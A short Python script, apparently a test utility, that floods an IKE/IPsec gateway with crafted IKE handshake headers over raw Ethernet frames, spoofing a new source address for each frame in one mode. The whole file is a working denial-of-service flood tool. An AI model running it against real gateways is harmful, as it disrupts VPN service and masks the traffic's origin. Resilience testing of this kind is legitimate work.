#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""ike_flood.py IF GATEWAY MAC KIND UNTIL: headers of IKE messages until the file UNTIL is there.

KIND  one    begin handshakes, from one address
      many   begin some, and go on with others, from a new address each time

The last line says how many were sent.
"""
import os
import random
import socket
import struct
import sys
import time

PACE = 20  # frames at a time
SLEEP_S = 0.004


def checksum(octets):
    s = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return struct.pack("!H", ~s & 0xffff)


def ike(known):
    responder = os.urandom(8) if known else bytes(8)
    return os.urandom(8) + responder + struct.pack("!BBBBII", 46 if known else 33, 0x20, 37 if known else 34, 8, known, 28)


def frame(mac, source, gateway, payload):
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 500, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, socket.inet_aton(gateway))
    ip = ip[:10] + checksum(ip) + ip[12:]
    return bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x77\x08\0" + ip + udp


def main(port, gateway, mac, kind, until):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((port, 0))
    n = 0
    while not os.path.exists(until):
        for _ in range(PACE):
            source = socket.inet_aton("198.51.100.77")
            if kind == "many":
                source = bytes([random.randrange(1, 100), *random.randbytes(2), random.randrange(1, 255)])
            try:
                s.send(frame(mac, source, gateway, ike(kind == "many" and n % 2)))
            except OSError:
                pass  # the queue is full
            n += 1
        time.sleep(SLEEP_S)
    print(f"sent {n}")


if __name__ == "__main__":
    main(*sys.argv[1:])
